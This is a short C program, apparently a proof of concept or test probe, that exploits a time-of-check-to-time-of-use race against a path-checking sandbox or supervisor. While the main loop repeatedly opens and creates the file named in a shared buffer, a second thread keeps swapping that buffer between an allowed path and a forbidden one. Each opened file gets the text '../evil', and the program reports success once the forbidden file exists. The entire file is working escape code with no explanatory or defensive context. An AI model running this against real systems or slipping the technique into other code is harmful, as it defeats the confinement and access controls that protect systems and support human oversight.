/* Swaps the path of an open between two names of one length while it is judged. */
#include <fcntl.h>
#include <pthread.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static char shared[512];
static const char *good, *bad;
static void *swap(void *unused) {
    (void)unused;
    size_t length = strlen(good) + 1;
    for (;;) { memcpy(shared, good, length); for (volatile int i = 0; i < 2000; i++); memcpy(shared, bad, length); for (volatile int i = 0; i < 2000; i++); }
    return 0;
}
int main(int count, char **words) {
    if (count < 3 || strlen(words[1]) != strlen(words[2])) return 2;
    good = words[1]; bad = words[2];
    strcpy(shared, good);
    pthread_t thread;
    pthread_create(&thread, 0, swap, 0);
    struct stat seen;
    for (time_t end = time(0) + 5; time(0) < end;) {
        int fd = open(shared, O_CREAT | O_WRONLY, 0644);
        if (fd >= 0) { write(fd, "../evil\n", 8); close(fd); unlink(good);}
        if (stat(bad, &seen) == 0) return 0;
    }
    return 1;
}
